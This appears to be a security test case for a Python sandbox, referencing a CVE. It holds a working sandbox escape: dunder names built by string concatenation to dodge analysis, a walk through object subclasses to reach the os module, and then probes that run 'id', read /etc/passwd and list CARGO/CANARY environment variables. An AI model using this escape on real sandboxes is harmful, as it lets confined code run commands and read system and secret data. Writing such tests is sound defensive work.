# /// case
# technique = "object-graph"
# analysis = ["forbidden-attribute", "dynamic-attribute"]
# without_analysis = "contained"
# reference = "CVE-2026-55830"
# ///
# Names that guards go by, rebound as positional-only parameters.
def run(_getattr_, _getitem_, _write_, _print_, __builtins__, /):
    kind = _getattr_((), "__cla" + "ss__")
    base = _getattr_(kind, "__ba" + "se__")
    for child in _getattr_(base, "__subcla" + "sses__")():
        if child.__name__ == "_wrap_close":
            return _getitem_(child.__init__.__globals__, "sys").modules["os"]

found = run(getattr, lambda table, key: table[key], None, print, {})

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
